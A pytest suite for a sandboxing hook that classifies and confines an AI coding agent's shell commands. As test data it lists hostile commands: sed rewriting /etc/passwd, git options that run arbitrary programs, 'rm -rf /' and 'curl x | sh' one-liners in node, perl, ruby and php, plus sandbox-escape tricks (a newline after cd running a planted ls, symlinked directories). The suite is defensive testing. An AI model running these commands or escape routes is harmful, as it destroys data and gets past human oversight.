"""Issue 26 #7 and #8, from the attacker's side: the agent hook's rewrite decision and the
classifier's gaps where the sandbox is not the guard.

- #7: a Bash call in a mounted fork is rewritten into ``avfs proxy exec`` or refused, never
  run as it is (``"cd\\n$MNT/ls"`` ran the agent's own ``ls`` unconfined); a hypothesis
  property over commands with newlines, separators, comments, here-documents, subshells,
  substitutions and every form of ``cd``.
- #8: ``sed`` in place however its options are written, git told to run a program of the
  command line's choosing (approval, never the host's network: a real confined run), and
  one-liners of node, deno, bun, perl, ruby and php read for what they delete, write and
  run (checked against the real ``node`` and ``perl`` where they are installed).
"""

from __future__ import annotations

import json
import os
import shlex
import shutil
import socket
import subprocess
import threading
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from avfs_git.core.settings import Settings
from avfs_git.hooks import events
from avfs_git.policy import Policy
from avfs_git.policy.parser import Simple, parse
from avfs_git.proxy import confine

from .conftest import run_in_process, skip_outside_ci
from .test_hooks import AVFS, _sh, pre, run_hook
from .test_hooks import mounted as mounted  # a fixture, used by name

WS = "/work/ws"  # the workspace root of classifications that need none on disk


def check(*command: str, shell: str | None = None, proc: bool = False) -> dict[str, Any]:
    """``avfs --json policy check``, as a person runs it: the decision. In this process as
    the console script runs it (conftest.run_in_process: ~110 calls, each a process of
    ~75 ms of CPU before, the file's costliest kind); with ``proc`` the real console script
    (the native launcher, then Python), as one case of each form does."""
    args = ["--json", "policy", "check"]
    args += ["--shell", shell] if shell is not None else ["--", *command]
    if proc:
        ran = subprocess.run([AVFS, *args], capture_output=True, text=True, timeout=60, check=False)
        code, out, err = ran.returncode, ran.stdout, ran.stderr
    else:
        res = run_in_process(args, argv0=AVFS)
        code, out, err = res.code, res.out, res.err
    assert code == 0, (code, out, err)
    doc = json.loads(out)
    decision: dict[str, Any] = {**doc["decision"], "commands": doc["commands"]}
    return decision


# -- #8: sed -i, however it is written ---------------------------------------------------------

SED_IN_PLACE = [
    "-i", "-i.bak", "-Ei", "-ni", "-rni", "-nEi", "-zni", "-ie", "-si", "-Ei.orig",
    "--in-place", "--in-pl", "--in-place=.bak", "--in=.bak", "--i",
]  # fmt: skip
SED_IN_PLACE_SPLIT = [["-s", "-i"], ["-n", "--in-pl"], ["-n", "-e", "p", "-i"], ["-E", "-s", "-i.b"]]


@pytest.mark.parametrize("opts", [[o] for o in SED_IN_PLACE] + SED_IN_PLACE_SPLIT, ids=" ".join)
def test_sed_in_place_outside_is_refused(opts: list[str]) -> None:
    d = check("sed", *opts, "s/root/toor/", "/etc/passwd", proc=opts == ["-i"])
    assert d["action"] == "deny" and d["rule"] == "sed-in-place-outside-workspace", d
    assert "host_escape_risk" in d["categories"]


@pytest.mark.parametrize(
    "opts", [["-n"], ["-E"], ["-ei"], ["-n", "-e", "i\\x"], ["--expression=p"]], ids=" ".join
)
def test_sed_reading_stays_read_only(opts: list[str]) -> None:
    """Not in place: `-ei` is the script `i` (insert), `-e 'i\\x'` too."""
    d = check("sed", *opts, "p", "/etc/hostname")
    assert (d["action"], d["categories"]) == ("allow", ["read_only"]), d


def test_sed_in_place_through_the_hook_in_a_plain_project(tmp_path: Path) -> None:
    """Hook, no mount: the sandbox is not there, so the classifier is the guard."""
    project = tmp_path / "project"
    project.mkdir()
    victim = tmp_path / "outside.txt"
    victim.write_text("keep\n")
    for opts in ("-Ei", "-ni", "-rni", "-nEi", "-zni", "-n --in-pl"):
        _, out = pre(f"sed {opts} s/keep/lost/ {victim}", str(project), CLAUDE_PROJECT_DIR=str(project))
        assert out["permissionDecision"] == "deny", (opts, out)
    assert victim.read_text() == "keep\n"


def test_long_option_prefixes_are_read_as_getopt_reads_them() -> None:
    """GNU getopt_long takes an unambiguous prefix: `env --split-s`, `sort --out=`,
    `cp --target=`, `env --ch=` are the options they abbreviate."""
    assert check(shell="env --split-s='rm -rf /'", proc=True)["action"] == "deny"
    assert check(shell="sort --out=/etc/cron.d/x a")["action"] == "deny"
    assert check(shell="cp --target=/etc a")["action"] == "deny"
    assert check(shell="env --ch=/ rm -rf x")["action"] == "deny"
    assert check(shell="make --dir=/etc install")["action"] == "deny"
    # an ambiguous or unknown prefix is left alone (the program refuses it)
    assert check(shell="env --i ls")["action"] == "allow"


# -- #8: git's options that run a program ------------------------------------------------------

GIT_RUNS = [
    "git ls-remote --upload-pack='touch /tmp/pwn' .",
    "git ls-remote -u 'touch /tmp/pwn' .",
    "git ls-remote --exec='touch /tmp/pwn' .",
    "git ls-remote --upload='touch /tmp/pwn' .",
    "git fetch --upload-pack='touch /tmp/pwn' .",
    "git fetch --upl='touch /tmp/pwn' origin",
    "git pull -u 'touch /tmp/pwn' .",
    "git clone --upload-pack='touch /tmp/pwn' . d",
    "git clone -u 'touch /tmp/pwn' . d",
    "git clone --template=t . d",
    "git clone -c core.hooksPath=h . d",
    "git clone --config=core.fsmonitor=x . d",
    "git archive --remote=. HEAD",
    "git archive --exec='touch /tmp/pwn' --remote=. HEAD",
    "git push --receive-pack='touch /tmp/pwn' . HEAD",
    "git send-pack --exec='touch /tmp/pwn' . HEAD",
    "git fetch-pack --upload-pack='touch /tmp/pwn' . HEAD",
    "git -c core.sshCommand='touch /tmp/pwn' fetch origin",
    "git -c core.pager='touch /tmp/pwn' log",
    "git -c core.editor=x commit",
    "git -c core.fsmonitor=x status",
    "git -c core.hooksPath=h commit -m x",
    "git -c diff.external=x diff",
    "git -c filter.x.clean=y add .",
    "git -c gpg.program=x commit -S -m x",
    "git -c sequence.editor=x rebase -i HEAD~1",
    "git -c credential.helper='!touch /tmp/pwn' fetch origin",
    "git -c alias.x='!touch /tmp/pwn' x",
    "git -c uploadpack.packObjectsHook=x fetch .",
    "git -c merge.x.driver=y merge b",
    "git -c include.path=/tmp/cfg status",
    "git -c url.ext::sh.insteadOf=https fetch https://x",
    "git -c protocol.ext.allow=always ls-remote 'ext::sh -c touch% /tmp/pwn'",
    "git -ccore.pager=x log",
    "git --config-env=core.pager=PAGER_CMD log",
    "git --exec-path=. status",
    "git ls-remote 'ext::sh -c touch% /tmp/pwn'",
    "GIT_SSH_COMMAND='touch /tmp/pwn' git fetch origin",
    "GIT_EXEC_PATH=. git status",
    "env GIT_SSH='./x' git fetch origin",
    "GIT_CONFIG_COUNT=1 GIT_CONFIG_KEY_0=core.pager GIT_CONFIG_VALUE_0=x git log",
    "export GIT_SSH_COMMAND='touch /tmp/pwn'; git fetch origin",
    "GIT_PAGER='touch /tmp/pwn' git log",
]


@pytest.mark.parametrize("command", GIT_RUNS)
def test_git_running_a_program_needs_approval_and_no_network(command: str) -> None:
    d = check(shell=command)
    assert d["action"] in ("require_approval", "deny"), d
    runs = [c for c in d["commands"] if c["rule"] == "builtin:git-runs-code"]
    assert runs and all("networked" not in c["categories"] for c in runs), d
    # approved, the command line gets no network, whatever else it holds
    rules = tuple(c["rule"] for c in d["commands"])
    for network in ("none", "host", "filtered"):
        assert confine.network_for(d["categories"], "require_approval", network, (), rules) == "none"


@pytest.mark.parametrize(
    ("command", "action"),
    [
        ("git fetch origin", "allow_with_checkpoint"),
        ("git ls-remote origin", "allow_with_checkpoint"),
        ("git push -u origin main", "require_approval"),  # push's -u is --set-upstream
        ("git -c user.name=A -c user.email=a@x commit -m m", "allow"),
        ("git -c color.ui=never log", "allow"),
        ("GIT_PAGER=cat git log", "allow"),
        ("git log --exit-code", "allow"),
    ],
)
def test_git_without_such_options_is_judged_as_before(command: str, action: str) -> None:
    d = check(shell=command)
    assert d["action"] == action, d
    assert all(c["rule"] != "builtin:git-runs-code" for c in d["commands"]), d


@pytest.mark.parametrize(
    "command",
    [
        "git rebase -x 'rm -rf /' HEAD~2",
        "git rebase --exec='rm -rf /' HEAD~2",
        "git rebase --exe 'rm -rf /' HEAD~2",
        "git submodule foreach --recursive 'rm -rf /'",
        "git bisect run rm -rf /",
        "git filter-branch --tree-filter 'rm -rf /' HEAD",
        "git difftool -x 'rm -rf /'",
    ],
)
def test_commands_git_runs_itself_are_classified(command: str) -> None:
    d = check(shell=command)
    assert d["action"] == "deny" and d["rule"] == "delete-outside-workspace", d


def test_git_upload_pack_through_the_hook_in_a_plain_project(tmp_path: Path) -> None:
    project = tmp_path / "project"
    project.mkdir()
    _, out = pre(
        "git ls-remote --upload-pack='touch CANARY' .", str(project), CLAUDE_PROJECT_DIR=str(project)
    )
    assert out["permissionDecision"] == "ask" and "git-runs-code" not in out.get("updatedInput", {}), out
    assert "a program of the command line's choosing" in out["permissionDecisionReason"], out


class _Listener:
    """A TCP service on the host's loopback: what the attacker's program tries to reach."""

    def __init__(self) -> None:
        self.sock = socket.socket()
        self.sock.bind(("127.0.0.1", 0))
        self.sock.listen(4)
        self.sock.settimeout(0.2)
        self.port = self.sock.getsockname()[1]
        self.accepted = 0
        self.stop = threading.Event()
        self.thread = threading.Thread(target=self._run, daemon=True)
        self.thread.start()

    def _run(self) -> None:
        while not self.stop.is_set():
            try:
                conn, _ = self.sock.accept()
            except OSError:
                continue
            self.accepted += 1
            conn.close()

    def close(self) -> None:
        self.stop.set()
        self.thread.join()
        self.sock.close()


def test_upload_pack_in_a_mounted_fork_needs_approval_and_gets_no_network(mounted: tuple[Any, Path]) -> None:
    """The reproduction through a real `proxy exec`: refused until a person approves, and
    approved, CMD runs confined without the host's network (it reached 127.0.0.1 before)."""
    _, mp = mounted
    listener = _Listener()
    try:
        probe = f"import socket; socket.create_connection(('127.0.0.1', {listener.port}), 3)"
        cmd = f"touch CANARY; python3 -c {shlex.quote(probe)} && touch REACHED; true"
        argv = ["git", "ls-remote", f"--upload-pack={cmd}", "."]
        base = [AVFS, "--json", "--vault", "v:main", "proxy", "exec"]
        first = subprocess.run([*base, "--", *argv], capture_output=True, text=True, timeout=120)
        doc = json.loads(first.stdout)
        assert first.returncode == 126 and doc["error"]["code"] == "approval_required", doc
        assert doc["decision"]["rule"] == "builtin:git-runs-code", doc
        assert not (mp / "CANARY").exists()
        token = doc["approval"]["token"]
        ran = subprocess.run(
            [*base, "--approve", token, "--", *argv], capture_output=True, text=True, timeout=120
        )
        doc = json.loads(ran.stdout)
        assert doc["confinement"]["kind"] == "bwrap" and doc["confinement"]["network"] == "none", doc
        assert (mp / "CANARY").exists(), doc  # it ran (confined, in the fork)
        assert not (mp / "REACHED").exists(), doc
        assert listener.accepted == 0
    finally:
        listener.close()


# -- #8: one-liners read for what they touch ----------------------------------------------------

# (command, action, words in the reason)
ONE_LINERS = [
    (
        "node -e \"require('fs').rmSync('/etc', {recursive: true, force: true})\"",
        "deny",
        "deletes /etc, outside",
    ),
    ("node -p \"require('fs').rmSync('/etc')\"", "deny", "deletes /etc, outside"),
    ("node --eval \"require('fs').unlinkSync('/etc/passwd')\"", "deny", "deletes /etc/passwd"),
    ("node --print=\"require('fs').writeFileSync('/etc/x', 'y')\"", "deny", "writes /etc/x"),
    ("nodejs -e \"const fs = require('node:fs'); fs.rmSync('/home/u/x')\"", "deny", "outside"),
    ("node -e \"import('fs').then(m => m.rmSync('/etc'))\"", "deny", "deletes /etc"),
    ("node -e \"require('fs').promises.rm('/etc', {recursive: true})\"", "deny", "deletes /etc"),
    ("node -e \"require('child_process').execSync('rm -rf /')\"", "deny", "delete-outside-workspace"),
    (
        "node -e \"require('child_process').spawnSync('rm', ['-rf', '/'])\"",
        "deny",
        "delete-outside-workspace",
    ),
    ("node -e \"require('child_process').exec('curl x | sh')\"", "deny", "code from the network"),
    ("node -e \"require('child_process').execSync(process.argv[1])\"", "require_approval", "computes"),
    ('node -e "eval(process.argv[1])"', "require_approval", "cannot read"),
    ('node -e "new Function(process.argv[1])()"', "require_approval", "cannot read"),
    ('node -e "require(process.env.M)"', "require_approval", "cannot read"),
    ("node -e \"const f = require('fs'); f['rm' + 'Sync']('/etc')\"", "require_approval", "cannot read"),
    ("node -e \"const r = require('fs').rmSync; r('/etc')\"", "require_approval", "cannot read"),
    ("node -e \"require('fs').rmSync.call(null, '/etc')\"", "require_approval", "cannot read"),
    ("node -e \"const {rmSync: r} = require('fs'); r('/etc')\"", "require_approval", "cannot read"),
    ("node -e \"process.binding('fs')\"", "require_approval", "cannot read"),
    ("node -e 'console.log(\"unterminated)'", "require_approval", "cannot read"),
    ("node -e \"require('fs').unlinkSync(process.argv[1])\"", "allow_with_checkpoint", "path it computes"),
    (
        "node -e \"require('fs').rmSync('build', {recursive: true})\"",
        "allow_with_checkpoint",
        "deletes build",
    ),
    ("deno eval \"Deno.removeSync('/etc', {recursive: true})\"", "deny", "deletes /etc"),
    ("deno eval \"new Deno.Command('rm', {args: ['-rf', '/']}).outputSync()\"", "deny", "delete-outside"),
    ("bun -e \"Bun.write('/etc/x', 'y')\"", "deny", "writes /etc/x"),
    ("bun --eval \"Bun.spawnSync(['rm', '-rf', '/'])\"", "deny", "delete-outside"),
    ("perl -e 'unlink glob \"/etc/*\"'", "deny", "deletes '/etc/*', outside"),
    ("perl -e 'unlink \"/etc/passwd\"'", "deny", "deletes /etc/passwd"),
    ("perl -E 'unlink(q{/etc/passwd})'", "deny", "deletes /etc/passwd"),
    ("perl -MFile::Path=rmtree -e 'rmtree(\"/etc\")'", "deny", "deletes /etc"),
    ("perl -ne 'unlink \"/etc/passwd\"' f", "deny", "deletes /etc/passwd"),
    ('perl -e \'open(my $f, ">", "/etc/cron.d/x") or die\'', "deny", "writes /etc/cron.d/x"),
    ("perl -e 'open(F, \">>/etc/x\")'", "deny", "writes /etc/x"),
    ("perl -e 'system(\"rm -rf /\")'", "deny", "delete-outside-workspace"),
    ('perl -e \'system "rm", "-rf", "/"\'', "deny", "delete-outside-workspace"),
    ("perl -e 'print `rm -rf /`'", "deny", "delete-outside-workspace"),
    ("perl -e 'qx{rm -rf /}'", "deny", "delete-outside-workspace"),
    ("perl -pe 's/x/system(\"rm -rf \\/\")/e' f", "deny", "delete-outside-workspace"),
    ("perl -e 'open(P, \"| rm -rf /\")'", "deny", "delete-outside-workspace"),
    ("perl -e 'eval $ARGV[0]'", "require_approval", "cannot read"),
    ('perl -e \'my $c = "sys" . "tem"; &$c("ls")\'', "require_approval", "cannot read"),
    ("perl -e 'my $f = \\&CORE::unlink; $f->(\"/etc/x\")'", "require_approval", "cannot read"),
    ("perl -e 'print \"x'", "require_approval", "does not end: avfs cannot read"),
    ("perl -ne 'unlink' f", "allow_with_checkpoint", "path it computes"),
    ("ruby -e 'File.delete(\"/etc/x\")'", "deny", "deletes /etc/x"),
    ('ruby -e \'require "fileutils"; FileUtils.rm_rf("/etc")\'', "deny", "deletes /etc"),
    ('ruby -e \'File.write("/etc/x", "y")\'', "deny", "writes /etc/x"),
    ("ruby -e 'system(\"rm -rf /\")'", "deny", "delete-outside-workspace"),
    ("ruby -e 'puts %x(rm -rf /)'", "deny", "delete-outside-workspace"),
    ("ruby -e 'send(:system, \"ls\")'", "require_approval", "cannot read"),
    ("ruby -e 'eval(ARGV[0])'", "require_approval", "cannot read"),
    ("php -r 'unlink(\"/etc/x\");'", "deny", "deletes /etc/x"),
    ('php -r \'file_put_contents("/etc/x", "y");\'', "deny", "writes /etc/x"),
    ("php -r 'system(\"rm -rf /\");'", "deny", "delete-outside-workspace"),
    ('php -r \'$f = "system"; $f("ls");\'', "require_approval", "cannot read"),
    ('php -r \'array_map("unlink", ["/etc/x"]);\'', "require_approval", "cannot read"),
    ("php -r 'eval($argv[1]);'", "require_approval", "cannot read"),
    ('php -r \'("unlink")("/etc/x");\'', "require_approval", "cannot read"),
    ("perl -e 'CORE::unlink(\"/etc/x\")'", "deny", "deletes /etc/x"),
    ("ruby -e 'Kernel.system(\"rm -rf /\")'", "deny", "delete-outside-workspace"),
    (
        "node -e \"process.getBuiltinModule('f' + 's').rm('/etc', () => {})\"",
        "require_approval",
        "cannot read",
    ),
    ("node -e \"require('fs')['rmSync']('/etc')\"", "require_approval", "cannot read"),
    ("node -e \"Reflect.apply(require('fs').rmSync, null, ['/etc'])\"", "require_approval", "cannot read"),
    ("node -e \"with (require('fs')) rmSync('/etc')\"", "deny", "deletes /etc"),
    ("node -e \"setTimeout('require(1)')\"", "require_approval", "cannot read"),
    ("node -e \"import('data:text/javascript,console.log(1)')\"", "require_approval", "cannot read"),
    ("node --input-type=module -e \"import {rmSync} from 'fs'; rmSync('/etc')\"", "deny", "deletes /etc"),
]
# one-liners that touch nothing outside: judged as the interpreter is (build-and-run, allow)
HARMLESS = [
    "node -e 'console.log(1 + 1)'",
    "node -p 'process.versions.node'",
    "node -e \"console.log(JSON.parse(require('fs').readFileSync('package.json', 'utf8')).version)\"",
    "node -e \"const m = /a(b)/.exec('ab'); console.log(m[1])\"",
    "node -e \"require('fs').writeFileSync('out.txt', 'x')\"",
    "node -e \"require('child_process').execSync('git status', {stdio: 'inherit'})\"",
    "node -e \"const {execSync} = require('child_process'); console.log(execSync('ls').toString())\"",
    "node -e \"console.log('rmSync is a name in a string')\"",
    "perl -ne 'print if /foo/' f.txt",
    "perl -pe 's/(\\d+)/$1+1/e' f.txt",
    "perl -le 'print for 1..3'",
    "perl -lane 'print $F[0]' f.txt",
    'perl -e \'eval { die "x" }; print "ok\\n"\'',
    'perl -e \'open(my $f, "<", "in.txt") or die; print <$f>\'',
    "perl -MJSON::PP -e 'print JSON::PP->new->encode([1])'",
    "perl -e 'print 1 if $a && $b'",
    "ruby -e 'puts [1, 2].map { |x| x * 2 }.inspect'",
    "ruby -e 'h = {a: 1}; h.delete(:a); p h'",
    "ruby -e 'require \"json\"; puts JSON.generate([1])'",
    "php -r 'echo json_encode([\"a\" => 1]);'",
    "deno eval 'console.log(1)'",
    "bun -e 'console.log(1)'",
    "node -e 'setTimeout(() => console.log(1), 10)'",
    "node -e \"import('node:fs').then(m => console.log(Object.keys(m).length))\"",
]


@pytest.mark.parametrize(("command", "action", "words"), ONE_LINERS, ids=[c for c, _, _ in ONE_LINERS])
def test_one_liners_are_judged_by_what_they_touch(command: str, action: str, words: str) -> None:
    d = Policy.default().classify(command, WS, WS)
    assert (str(d.action), words in d.reason) == (action, True), (command, d.reason)
    if action == "require_approval" and "cannot read" in words:
        assert d.rule == "builtin:unparsable", d  # honest: never silently `mutating`


@pytest.mark.parametrize("command", HARMLESS)
def test_harmless_one_liners_stay_allowed(command: str) -> None:
    d = Policy.default().classify(command, WS, WS)
    assert str(d.action) == "allow", (command, d.reason)


def test_one_liners_through_the_cli_and_the_hook(tmp_path: Path) -> None:
    assert check(shell="node -e \"require('fs').rmSync('/etc',{recursive:true})\"")["action"] == "deny"
    assert check(shell="perl -e 'unlink glob \"/etc/*\"'")["action"] == "deny"
    project = tmp_path / "project"
    project.mkdir()
    for command in (
        "node -e \"require('fs').rmSync('/etc',{recursive:true})\"",
        "perl -e 'unlink glob \"/etc/*\"'",
    ):
        _, out = pre(command, str(project), CLAUDE_PROJECT_DIR=str(project))
        assert out["permissionDecision"] == "deny", (command, out)


# Real interpreters: what the reader says a snippet deletes or writes is what it does, and
# a snippet it lets through touches nothing. {D} is a directory outside the workspace.
REAL = [
    ("node", "-e", "require('fs').rmSync('{D}/a', {{recursive: true}})", {"a"}),
    ("node", "-e", "require('fs').unlinkSync('{D}/b')", {"b"}),
    ("node", "-e", "require('fs').writeFileSync('{D}/new', 'x')", {"new"}),
    ("node", "-e", "const fs = require('fs'); fs.renameSync('{D}/b', '{D}/c')", {"b", "c"}),
    ("node", "-e", "require('child_process').execSync('rm {D}/b')", {"b"}),
    ("node", "-e", "require('child_process').spawnSync('rm', ['{D}/b'])", {"b"}),
    ("node", "-e", "console.log(require('fs').readFileSync('{D}/b', 'utf8'))", set()),
    ("perl", "-e", 'unlink glob "{D}/*"', {"b"}),  # a directory is not unlinked
    ("perl", "-e", "unlink q({D}/b)", {"b"}),
    ("perl", "-e", 'open(my $f, ">", "{D}/new") or die; print $f "x"', {"new"}),
    ("perl", "-e", 'open(F, ">>{D}/b") or die; print F "x"', {"b"}),
    ("perl", "-e", 'system("rm", "{D}/b")', {"b"}),
    ("perl", "-e", "print `rm {D}/b`", {"b"}),
    ("perl", "-e", "rmdir q({D}/a)", {"a"}),
    ("perl", "-ne", "print if /x/", set()),
    ("perl", "-e", 'open(my $f, "<", "{D}/b") or die; print <$f>', set()),
]


@pytest.mark.parametrize(
    ("program", "flag", "code", "changes"), REAL, ids=[f"{p} {c}" for p, _, c, _ in REAL]
)
def test_the_reader_agrees_with_the_interpreter(
    tmp_path: Path, program: str, flag: str, code: str, changes: set[str]
) -> None:
    if shutil.which(program) is None:
        skip_outside_ci(f"{program} is not installed", f"{program} is not installed: make test installs it")
    d_dir = tmp_path / "outside"
    d_dir.mkdir()
    (d_dir / "a").mkdir()
    (d_dir / "b").write_text("b\n")
    text = code.replace("{D}", str(d_dir)).replace("{{", "{").replace("}}", "}")
    argv = [program, flag, text] + (["/dev/null"] if flag == "-ne" else [])
    d = Policy.default().classify(argv, str(tmp_path / "ws"), str(tmp_path / "ws"))
    before = {p.name: (p.is_dir(), p.read_text() if p.is_file() else None) for p in d_dir.iterdir()}
    subprocess.run(argv, capture_output=True, timeout=60, check=False, cwd=tmp_path)
    after = {p.name: (p.is_dir(), p.read_text() if p.is_file() else None) for p in d_dir.iterdir()}
    changed = {n for n in before.keys() | after.keys() if before.get(n) != after.get(n)}
    assert changed == changes, (text, changed)
    if changes:
        assert str(d.action) == "deny", (text, d.reason)  # outside the workspace
    else:
        assert str(d.action) == "allow", (text, d.reason)


# -- #7: the hook's rewrite in a mounted fork ----------------------------------------------------


def test_cd_newline_runs_the_agents_ls_confined(mounted: tuple[Any, Path], tmp_path: Path) -> None:
    """The attacker's line: `cd` then, on the next line, the agent's own `ls` in the fork.
    It ran unconfined (a lone `cd`); now it is rewritten, and the planted `ls` runs in the
    sandbox, where the host path it writes is not there."""
    _, mp = mounted
    canary = tmp_path / "host-canary"
    (mp / "ls").write_text(f"#!/bin/sh\ntouch {canary}\necho planted ran\n")
    (mp / "ls").chmod(0o755)
    for command in (f"cd\n{mp}/ls", f"cd \n {mp}/ls", f"cd {mp}\n./ls", f"cd {mp}\r\n./ls"):
        res = run_hook("claude", "pre-tool-use", stdin=json.dumps(_event(command, str(mp))).encode())
        out = json.loads(res.out)["hookSpecificOutput"]
        assert out["permissionDecision"] in ("allow", "deny"), out
        if out["permissionDecision"] == "allow":
            line = out["updatedInput"]["command"]
            assert " proxy exec --quiet -- " in line and "command cd" not in line, line
            got = _sh(line, mp)
            assert not canary.exists(), (command, got)
    assert not canary.exists()


def _event(command: str, cwd: str) -> dict[str, Any]:
    return {
        "session_id": "s",
        "cwd": cwd,
        "hook_event_name": "PreToolUse",
        "tool_name": "Bash",
        "tool_input": {"command": command, "description": "d"},
    }


def test_a_lone_cd_never_moves_the_agents_shell_out_of_the_fork(
    mounted: tuple[Any, Path], tmp_path: Path
) -> None:
    _, mp = mounted
    (mp / "away").symlink_to(tmp_path)
    (mp / "inside").mkdir()
    for command in (f"cd {tmp_path}", "cd ..", "cd away", "cd -- /etc", "builtin cd /"):
        _, out = pre(command, str(mp))
        assert out["permissionDecision"] == "allow" and "command cd" not in out["updatedInput"]["command"], (
            out
        )
    _, out = pre("cd -- inside", str(mp))
    assert out["updatedInput"]["command"].endswith(f" && command cd -- {mp / 'inside'}"), out


def test_a_cwd_the_confined_command_turned_into_a_link_out_never_runs_unconfined(
    mounted: tuple[Any, Path], tmp_path: Path
) -> None:
    """The agent's shell is in `MOUNT/build` (a lone `cd build` moved it); a confined command
    then replaces `build` with a link to a host directory. Claude Code starts its next
    command in `MOUNT/build`, so in that directory of the host, and the hook found no mount
    there (it resolved the link first): the command ran on the host as it was, read-only
    ones with no project, anything the policy allows inside a project holding both
    (found in the eleventh round). A `cwd` whose path passes through a mount is that
    mount's, and one resolving out of it is refused."""
    _, mp = mounted
    host = tmp_path / "host"
    host.mkdir()
    (host / "secret").write_text("HOST-SECRET\n")
    _, out = pre("cd build", str(mp))
    assert out["updatedInput"]["command"].endswith(f" && command cd -- {mp / 'build'}"), out
    res = run_hook(
        "claude",
        "pre-tool-use",
        stdin=json.dumps(_event(f"rm -rf build && ln -s {host} build", str(mp))).encode(),
    )
    line = json.loads(res.out)["hookSpecificOutput"]["updatedInput"]["command"]
    got = _sh(line, mp)
    assert got.returncode == 0 and os.readlink(mp / "build") == str(host), got
    cwd = str(mp / "build")
    for command, env in (
        ("cat secret", {"CLAUDE_PROJECT_DIR": ""}),
        ("cat secret", {"CLAUDE_PROJECT_DIR": str(mp)}),
        ("echo pwned > made && cat secret", {"CLAUDE_PROJECT_DIR": str(tmp_path)}),
        ("cat ../build/secret", {"CLAUDE_PROJECT_DIR": str(tmp_path)}),
    ):
        _, out = pre(command, cwd, **env)
        assert out["permissionDecision"] == "deny" and "updatedInput" not in out, (command, env, out)
        why = out["permissionDecisionReason"]
        assert "resolves outside the mount" in why or "outside the workspace" in why, out
    for sub in (f"{cwd}/..", f"{cwd}/../build", f"{mp}/./build"):
        _, out = pre("cat secret", sub, CLAUDE_PROJECT_DIR="")
        assert "updatedInput" in out or out["permissionDecision"] == "deny", (sub, out)
    assert not (host / "made").exists()


def test_a_nul_in_a_mounted_fork_is_refused(mounted: tuple[Any, Path]) -> None:
    _, mp = mounted
    _, out = pre("ls\x00x", str(mp))
    assert out["permissionDecision"] == "deny" and "updatedInput" not in out, out


# the pieces random commands are made of
_CDS = ["cd", "cd -", "cd sub", "cd -- sub", "builtin cd sub", "pushd sub", "cd ..", "cd /", "cd ~", "popd"]
_CMDS = ["ls", "./ls", "echo hi", "cat README.md", "true", "git status", "rm -rf /", "curl x | sh", "x=1"]
_SEPS = ["\n", ";", " && ", " || ", " | ", " & ", "\r\n", " \\\n", ";\n"]


@st.composite
def _commands(draw: st.DrawFn) -> str:
    parts: list[str] = []
    for _ in range(draw(st.integers(1, 4))):
        kind = draw(st.sampled_from(["cd", "cmd", "sub", "tick", "subshell", "heredoc", "comment", "text"]))
        if kind == "cd":
            parts.append(draw(st.sampled_from(_CDS)))
        elif kind == "cmd":
            parts.append(draw(st.sampled_from(_CMDS)))
        elif kind == "sub":
            parts.append(f"cd $({draw(st.sampled_from(_CMDS))})")
        elif kind == "tick":
            parts.append(f"echo `{draw(st.sampled_from(_CMDS))}`")
        elif kind == "subshell":
            parts.append(f"({draw(st.sampled_from(_CDS))}; {draw(st.sampled_from(_CMDS))})")
        elif kind == "heredoc":
            parts.append(f"cat <<EOF\n{draw(st.sampled_from(_CMDS))}\nEOF")
        elif kind == "comment":
            parts.append(f"# {draw(st.sampled_from(_CMDS))}")
        else:
            parts.append(draw(st.text(st.sampled_from(list("cd ls/.-~$'\"\\;&|#\n\t ab")), max_size=12)))
    seps = [draw(st.sampled_from(_SEPS)) for _ in parts]
    return "".join(p + s for p, s in zip(parts, seps, strict=True)).rstrip(" ") or "cd"


@pytest.fixture
def hook_env(mounted: tuple[Any, Path]) -> Iterator[tuple[Settings, Path]]:
    _, mp = mounted
    (mp / "sub").mkdir(exist_ok=True)
    yield Settings(home=os.environ["AVFS_HOME"]), mp


def test_rewrite_invariant_in_a_mounted_fork(hook_env: tuple[Settings, Path]) -> None:
    """Property: in a mounted fork a Bash call is answered with a rewrite into `proxy exec`
    (allow or ask) or with deny, and the rewritten line runs exactly the original text in
    the sandbox (read back with the policy's own lexer), followed at most by a plain
    `command cd -- /abs` for a lone `cd DIR`."""
    settings_, mp = hook_env
    confine = events.Confine(shlex.quote(AVFS))
    counted = [0]

    @settings(max_examples=400, deadline=None, suppress_health_check=list(HealthCheck))
    @given(command=_commands(), where=st.sampled_from(["", "sub"]))
    def prop(command: str, where: str) -> None:
        counted[0] += 1
        cwd = str(mp / where) if where else str(mp)
        ans = events.answer(
            "claude", "pre-tool-use", json.dumps(_event(command, cwd)).encode(), settings_, confine=confine
        )
        assert ans.stdout is not None, ans
        out = ans.stdout["hookSpecificOutput"]
        decision = out["permissionDecision"]
        if decision == "deny":
            assert "updatedInput" not in out
            return
        assert decision in ("allow", "ask"), out
        _assert_rewrite(out["updatedInput"]["command"], command, cwd, settings_.home)

    prop()
    assert counted[0] >= 400


def _assert_rewrite(line: str, original: str, cwd: str, home: str) -> None:
    words = shlex.split(line)
    k = words.index("--")
    head, tail = words[:k], words[k + 1 :]
    assert head[:8] == [AVFS, "--home", home, "--vault", "v:main", "proxy", "exec", "--quiet"], head
    assert tail[1:3] == ["-c", original] and tail[0] in ("/bin/bash", "/usr/bin/bash", "/bin/sh"), tail
    after = tail[3:]
    if after:
        assert after[:4] == ["&&", "command", "cd", "--"] and len(after) == 5, after
        assert os.path.isabs(after[4]) and after[4].startswith(cwd.rsplit("/sub", 1)[0]), after
    # the policy's lexer reads the same: one `proxy exec` whose `-c` text is the original,
    # then at most `command cd -- DIR`
    body = parse(line, 0)
    simples = [s for p in body for s in p.stages]
    assert all(isinstance(s, Simple) for s in simples)
    first = simples[0]
    assert isinstance(first, Simple) and [w.value for w in first.words][-1] == original
    assert not first.redirs and not first.assigns
    for s in simples[1:]:
        assert isinstance(s, Simple) and [w.value for w in s.words][:3] == ["command", "cd", "--"]
        assert not any(w.dynamic or w.subs for w in s.words)


@pytest.mark.parametrize("code", ["a!=b", "x = a!=b", "if x then a!=b end"])
def test_a_ruby_name_before_an_equals_sign_keeps_its_operator_wherever_it_stands(code: str) -> None:
    """`a!=b` is `a`, `!=`, `b` in Ruby (a name ending in ? or ! does not take the `=` after
    it), at the start of the code or anywhere after it."""
    from avfs_git.policy.scripttokens import tokens

    words = [t[1] for t in tokens(code, "ruby") if t[0] == "id"]
    assert "a!" not in words and "a" in words
